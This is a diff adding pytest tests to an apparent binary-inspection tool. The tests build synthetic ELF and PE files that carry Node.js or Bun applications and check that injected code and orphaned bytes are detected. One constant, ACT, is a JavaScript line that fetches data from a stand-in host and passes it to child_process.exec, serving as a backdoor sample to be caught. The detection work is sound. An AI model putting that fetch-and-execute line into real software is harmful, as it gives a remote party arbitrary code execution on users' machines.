@@ -1,0 +1,141 @@
+"""What a copied runtime of Node.js or Bun runs is opened, and what their builders leave explains nothing else."""
+
+from __future__ import annotations
+
+import random
+import struct
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from onionskin.flows.peel import peel
+from onionskin.jail.pool import Pool
+from onionskin.lookalike.carried import build_bun_graph, build_sea, in_section
+from onionskin.lookalike.elf import ElfRecipe, build_elf
+from onionskin.lookalike.pe import Recipe, build_pe
+from onionskin.model import Level
+from onionskin.write.reports import PeelReport
+
+APP = b"const fs = require('fs');\n" + b"".join(b"function part%d(x) { return x + %d }\n" % (n, n) for n in range(40))  # fmt: skip
+ACT = b"require('https').get('https://updates.example.net/x', r => r.on('data', d => require('child_process').exec(d)));\n"
+SECRET = random.Random(5).randbytes(3000)
+
+
+def report(pool: Pool, path: Path, data: bytes, old: bytes = b"") -> PeelReport:
+    path.write_bytes(data)
+    before = path.with_name(f"before-{path.name}")
+    before.write_bytes(old)
+    (made,) = peel([path], pool=pool, against=[before] if old else [])
+    return made
+
+
+def note(owner: bytes, body: bytes) -> bytes:
+    name = owner + b"\0"
+    padded = name + bytes(-len(name) % 4) + body + bytes(-len(body) % 4)
+    return struct.pack("<3I", len(name), len(body), 0) + padded
+
+
+def as_lief_writes(*notes: bytes, former_rows: bytes = b"", former_notes: bytes = b"") -> bytes:
+    """Return a program whose notes and program headers were moved to its end, and stand where they stood.
+
+    `former_rows` and `former_notes` are put there in their place.
+    """
+    data = bytearray(build_elf(ElfRecipe(kind=2, interpreter="/lib/ld.so.1", build_id=b"\xab" * 20)))  # fmt: skip
+    first, rows = data[64 : 64 + 56 * 4], [*struct.iter_unpack("<IIQQQQQQ", data[64 : 64 + 56 * 4])]
+    place, size = rows[3][2], rows[3][5]
+    earlier = bytes(data[place : place + size])
+    data += bytes(-len(data) % 8)
+    chain = earlier + b"".join(notes)
+    table = int.from_bytes(data[40:48], "little")
+    for at in range(table, table + 64 * int.from_bytes(data[60:62], "little"), 64):
+        if int.from_bytes(data[at + 24 : at + 32], "little") == place:
+            data[at + 16 : at + 32] = struct.pack("<2Q", len(data), len(data))
+    first[56 * 3 :] = struct.pack("<IIQQQQQQ", 4, 4, *[len(data)] * 3, len(chain), len(chain), 4)
+    data += chain
+    data += bytes(-len(data) % 8)
+    data[32:40] = struct.pack("<Q", len(data))
+    first[32:48] = struct.pack("<2Q", *[len(data) + len(first)] * 2)
+    data += first
+    data[64 : 64 + len(former_rows)] = former_rows
+    data[place : place + len(former_notes)] = former_notes
+    return bytes(data)
+
+
+def in_an_elf_section(app: bytes) -> bytes:
+    graph = build_bun_graph({"/$bunfs/root/app.js": (app,)})
+    return build_elf(ElfRecipe(kind=2, extra={".bun": in_section(graph)}))
+
+
+def behind_an_elf(app: bytes) -> bytes:
+    graph = build_bun_graph({"/$bunfs/root/app.js": (app,)}, row=36, offsets=24)
+    return build_elf(ElfRecipe(kind=2, tail=graph + struct.pack("<Q", len(graph))))
+
+
+def in_a_note(app: bytes) -> bytes:
+    return as_lief_writes(note(b"NODE_SEA_BLOB", build_sea(app)))
+
+
+def in_a_pe_section(app: bytes) -> bytes:
+    graph = build_bun_graph({"B:/~BUN/root/app.js": (app,)})
+    return build_pe(Recipe(sections=((".bun", in_section(graph), 0x40000040),)))
+
+
+def in_a_pe_resource(app: bytes) -> bytes:
+    return build_pe(Recipe(files={"NODE_SEA_BLOB": build_sea(app)}))
+
+
+CARRIERS = [in_an_elf_section, behind_an_elf, in_a_note, in_a_pe_section, in_a_pe_resource]
+
+
+@pytest.mark.parametrize("carrier", CARRIERS)
+def test_an_honest_program_that_carries_an_application_is_read_whole(
+    carrier: Callable[[bytes], bytes], pool: Pool, tmp_path: Path
+) -> None:
+    made = report(pool, tmp_path / "tool", carrier(APP))
+    assert (made.findings, made.problems, made.complete) == ((), (), True)
+    assert "app.js" in {layer.artifact.path[-1] for layer in made.layers}
+
+
+@pytest.mark.parametrize("carrier", CARRIERS)
+def test_a_statement_put_into_a_carried_script_is_found_in_that_script(
+    carrier: Callable[[bytes], bytes], pool: Pool, tmp_path: Path
+) -> None:
+    made = report(pool, tmp_path / "tool", carrier(APP + ACT), carrier(APP))
+    assert made.verdict.level is not Level.NOTHING_FOUND
+    scripts = {layer.artifact.id for layer in made.layers if layer.artifact.path[-1] == "app.js"}
+    assert {each.signal for each in made.findings if each.subject in scripts} >= {"new-ability"}
+
+
+@pytest.mark.parametrize("carrier", CARRIERS)
+@pytest.mark.parametrize("broken", [b"\x20\xda\x43\x01", b"\n---- Bun! ----\n"])
+def test_an_application_whose_mark_is_broken_is_never_passed_over(
+    carrier: Callable[[bytes], bytes], broken: bytes, pool: Pool, tmp_path: Path
+) -> None:
+    data = carrier(APP)
+    made = report(pool, tmp_path / "tool", data.replace(broken, bytes(len(broken))))
+    is_seen = made.findings or not made.complete
+    # A resource of no known form is data like any other.
+    assert is_seen or broken not in data or carrier is in_a_pe_resource
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pytest.param(as_lief_writes(note(b"Inert", SECRET)), id="in a note of nobody"),
+        pytest.param(as_lief_writes(former_rows=SECRET[:224]), id="where the headers stood"),
+        pytest.param(as_lief_writes(former_notes=SECRET[:36]), id="where the notes stood"),
+    ],
+)
+def test_bytes_in_the_places_that_lief_leaves_are_found(
+    data: bytes, pool: Pool, tmp_path: Path
+) -> None:
+    made = report(pool, tmp_path / "tool", data)
+    assert {each.signal for each in made.findings} == {"bytes-without-owner"}
+
+
+def test_what_lief_leaves_of_honest_notes_and_headers_is_no_finding(
+    pool: Pool, tmp_path: Path
+) -> None:
+    made = report(pool, tmp_path / "tool", as_lief_writes())
+    assert (made.findings, made.problems) == ((), ())
